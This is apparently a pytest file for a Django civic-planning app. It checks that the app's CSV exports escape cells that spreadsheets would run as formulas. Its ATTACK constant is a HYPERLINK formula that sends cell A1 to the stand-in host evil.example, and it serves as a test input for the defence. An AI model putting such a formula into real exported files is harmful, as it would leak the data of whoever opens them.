"""Portal downloads: a cell a spreadsheet would run as a formula is written as text (CSV injection, B8)."""

from __future__ import annotations

import csv
import io

import pytest

from cityline.core import actions
from cityline.portal import registry
from cityline.strategy.models import GlossaryTerm, ProcurementEntry

pytestmark = pytest.mark.django_db

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _rows(client, url):
    response = client.get(url)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_record_named_like_a_formula_is_downloaded_as_text(client, city):
    entry = ProcurementEntry.objects.get(city=city, key="smart-lighting")
    actions.update(entry, title=ATTACK)
    actions.create(GlossaryTerm, city=city, key="at-risk", term="@risk", definition="-1 if late, +1 if early",
                   status="agreed")
    lighting = next(r for r in _rows(client, "/riverford/procurement.csv") if r["key"] == "smart-lighting")
    assert lighting["title"] == "'" + ATTACK
    assert lighting["total_cost_of_ownership"] == "2420000" and lighting["B4.b.1"] == "true"  # numbers stay numbers
    term = next(r for r in _rows(client, "/riverford/glossary.csv") if r["term"].endswith("@risk"))
    assert (term["term"], term["definition"]) == ("'@risk", "'-1 if late, +1 if early")


def test_to_csv_guards_every_formula_start_and_keeps_numbers():
    text = registry.to_csv(["a", "b", "c", "d", "e", "f", "g", "h", "i"],
                           [["=1+1", "+33 1 23", "-x", "@SUM(A1)", "\tlead", "\rcr", -4, 2.5, None],
                            [True, False, "plain", "a=b", 0, -0.25, "", "1-2", "é"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'=1+1", "'+33 1 23", "'-x", "'@SUM(A1)", "'\tlead", "'\rcr", "-4", "2.5", ""]
    assert rows[2] == ["true", "false", "plain", "a=b", "0", "-0.25", "", "1-2", "é"]
    assert text.endswith("\r\n")  # RFC 4180 line ends, as before


# --- the other CSV files Cityline writes from its records (open data files, the gap report) ------------


def _parse(content: bytes | str) -> list[list[str]]:
    text = content.decode("utf-8") if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


def test_kpi_open_data_file_guards_text_and_keeps_numbers():
    from cityline.opendata import kpidata

    row = {"kpi": "air", "period_end": "2026-01-31", "value": -2.5, "unit": "µg/m³", "expected": None,
           "quality": "measured", "source": ATTACK}
    rows = _parse(kpidata.build_csv([row]))
    assert rows[1] == ["air", "2026-01-31", "-2.5", "µg/m³", "", "measured", "'" + ATTACK]


def test_take_up_open_data_file_guards_text():
    from cityline.opendata import takeup

    rows = _parse(takeup.build_csv([{"month": "2026-01", "dataset": "-a1", "distribution": "@x", "kind": "view",
                                     "count": 3}]))
    assert rows[1] == ["2026-01", "'-a1", "'@x", "view", "3"]


def test_participation_open_data_files_guard_text():
    from cityline.participation import opendata

    rows = _parse(opendata.build_csv(["consultation", "you_said", "supports"],
                                     [{"consultation": "cycle-lanes", "you_said": "+1 for Quay Road", "supports": 7}]))
    assert rows[1] == ["cycle-lanes", "'+1 for Quay Road", "7"]


def test_gap_report_csv_guards_text(monkeypatch):
    from cityline.assessment import report

    monkeypatch.setattr(report, "csv_rows", lambda data: [{"section": "result", "id": "B4.c.2", "score": 42,
                                                           "evidence": ATTACK}])
    rows = _parse(report.render_csv({}))
    assert rows[1][rows[0].index("evidence")] == "'" + ATTACK
    assert rows[1][rows[0].index("score")] == "42"
